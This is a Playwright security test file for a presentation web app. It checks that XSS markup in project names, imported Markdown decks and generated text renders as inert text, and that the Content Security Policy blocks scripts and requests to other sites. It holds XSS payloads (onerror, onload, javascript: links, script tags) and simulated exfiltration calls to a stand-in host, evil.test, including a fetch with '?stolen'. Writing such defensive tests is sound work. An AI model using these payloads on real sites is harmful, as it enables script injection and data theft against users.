import { test as plain } from '@playwright/test'
import { createProject, generate, importDeck, openStep, signUp } from './support/actions.ts'
import { expect, test } from './support/test.ts'

const OWN = 'window.owned = true'
const MARKUP = `<img src=x onerror="${OWN}"><svg onload="${OWN}"></svg>`
const deck = [
  '---\nmarp: true\n---\n',
  `# Lamps ${MARKUP}\n\n<script>${OWN}</script>\n\n- A lamp &lt;script&gt;${OWN}&lt;/script&gt; shines\n`,
  `# Ships ${MARKUP}\n\n- [A link](javascript:${encodeURIComponent(OWN)}) leads home\n\n<!-- <b onclick="${OWN}">note</b> -->\n`,
].join('\n---\n\n')

/** Nothing on the page came from the text as an element, and nothing of it ran. */
async function expectHarmless(page: import('@playwright/test').Page) {
  const main = page.locator('body')
  await expect(main.locator('img[src="x"], [onerror], [onload], [onclick]')).toHaveCount(0)
  await expect(main.locator('a[href^="javascript:" i]')).toHaveCount(0)
  expect(await page.evaluate(() => 'owned' in window)).toBe(false)
}

test('Markup in names, decks and what a model wrote is text wherever it is shown', async ({ page }) => {
  await signUp(page)
  const name = `Harbour ${MARKUP}`
  await createProject(page, name)
  await expectHarmless(page)
  await openStep(page, 'Deck structure')
  await importDeck(page, `${MARKUP}.md`, deck)
  await expect(page.getByRole('list', { name: 'Slides' })).toBeVisible()
  await expectHarmless(page)
  await openStep(page, 'Talk track')
  await generate(page)
  await expect(page.getByRole('heading', { name: 'Your talk track is ready' })).toBeVisible({
    timeout: 20_000,
  })
  await expectHarmless(page)
  await page.getByRole('main').getByRole('link', { name: 'View / Edit' }).click()
  await expect(page.getByRole('list', { name: 'Scripts' })).toBeVisible()
  await expectHarmless(page)
  const file = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export' }).click()
  await page.getByRole('menuitem', { name: 'Markdown' }).click()
  expect((await file).suggestedFilename()).not.toMatch(/[<>"/\\]/)
  await page.goto('/jobs')
  await page.getByRole('tab', { name: 'Completed' }).click()
  await expect(page.getByRole('tabpanel').getByRole('listitem')).toHaveCount(1)
  await expectHarmless(page)
  await page.goto('/projects')
  await expect(page.getByText('Harbour <img')).toBeVisible()
  await expectHarmless(page)
})

// Without the fixture that fails on errors in the console: the browser reports each violation there too.
plain('A script that gets into a page does not run, and reaches no other site', async ({ page }) => {
  // As if the server had put somebody's text into the page unescaped.
  await page.route('**/sign-in', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `<script>${OWN}</script></body>`)
    expect(body).toContain(OWN)
    await route.fulfill({ response, body })
  })
  await page.addInitScript(() => {
    const seen: string[] = []
    Object.assign(window, { seen })
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(event.effectiveDirective)
    })
  })
  await page.goto('/sign-in')
  await page.evaluate((own) => {
    const holder = document.createElement('div')
    holder.innerHTML = `<b onclick="${own}">x</b><img src="https://evil.test/?stolen" alt="">
      <iframe src="https://evil.test"></iframe><object data="https://evil.test"></object>`
    document.body.append(holder)
    holder.querySelector('b')?.click()
    const base = document.createElement('base')
    base.href = 'https://evil.test/'
    document.head.append(base)
    void fetch('https://evil.test/?stolen').catch(() => undefined)
    const form = document.createElement('form')
    form.action = 'https://evil.test/'
    document.body.append(form)
    form.submit()
  }, OWN)
  // The browser tells of what it has blocked a moment later, and of each kind in its own time.
  await expect
    .poll(() => page.evaluate(() => [...new Set((window as unknown as { seen: string[] }).seen)].sort()))
    .toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'object-src',
      'script-src-attr',
      'script-src-elem',
    ])
  expect(await page.evaluate(() => 'owned' in window)).toBe(false)
  expect(await page.evaluate(() => window.location.pathname)).toBe('/sign-in')
})
